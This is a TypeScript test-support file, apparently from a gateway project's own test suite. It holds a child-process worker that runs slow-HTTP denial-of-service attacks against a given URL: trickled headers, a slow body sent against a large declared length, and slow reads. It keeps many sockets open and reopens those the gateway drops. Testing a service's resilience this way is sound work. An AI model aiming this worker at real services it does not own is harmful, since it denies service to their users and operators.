// Slow senders in a process of their own, so that what they cost does not show in the times that honest traffic measures.
import { connect, type Socket } from "node:net";
import { apiPath } from "../support/notification.js";
import { headBytes, requestBytes, signedHeaders } from "../support/wire.js";
import type { Count, Kind, Order } from "./slow.js";

/** Connections that are opened in a second: more would be a flood, which is another attack. */
const openPerSecond = 250;
const openEveryMs = 50;

type Way = { readonly first: Buffer; readonly eachSecond: (socket: Socket, second: number) => void };

const headers = signedHeaders("{}");
// Strangers: their signature is of another body.
const request = requestBytes(apiPath, headers, "[]");
const ways: Readonly<Record<Kind, Way>> = {
  headers: {
    first: headBytes(apiPath, headers).subarray(0, -2),
    eachSecond: (socket) => void socket.write("X-A: b\r\n"),
  },
  body: {
    first: headBytes(apiPath, [...headers, ["Content-Length", "60000"]]),
    eachSecond: (socket) => void socket.write(" "),
  },
  // Asks again and again, and takes one byte of the answers a second.
  read: {
    first: request,
    eachSecond(socket, second) {
      socket.read(1);
      if (second % 5 === 0) socket.write(request);
    },
  },
};

function attack({ kind, url, sockets }: Order): void {
  const { hostname, port } = new URL(url);
  const { first, eachSecond } = ways[kind];
  const open = new Map<Socket, NodeJS.Timeout>();
  let [opening, opened] = [0, 0];

  function openOne(): void {
    // Nobody listens for data, so nothing flows: a slow reader takes what it asks for.
    const socket = connect({ host: hostname, port: Number(port), noDelay: true });
    [opening, opened] = [opening + 1, opened + 1];
    socket.on("error", () => {});
    socket.once("connect", () => {
      opening -= 1;
      socket.write(first);
      // A clock for each, so that they do not all act at once.
      let seconds = 0;
      open.set(
        socket,
        setInterval(() => eachSecond(socket, ++seconds), 1_000),
      );
    });
    socket.once("end", () => socket.destroy());
    socket.once("close", () => {
      clearInterval(open.get(socket));
      if (!open.delete(socket)) opening -= 1;
    });
  }

  // Those that the gateway cuts off come back.
  setInterval(() => {
    const missing = sockets - open.size - opening;
    for (let i = 0; i < Math.min(missing, (openPerSecond * openEveryMs) / 1_000); i++) openOne();
  }, openEveryMs);
  setInterval(() => void process.send?.({ open: open.size, opened } satisfies Count), 100);
}

process.once("message", attack);
process.once("disconnect", () => process.exit(0));
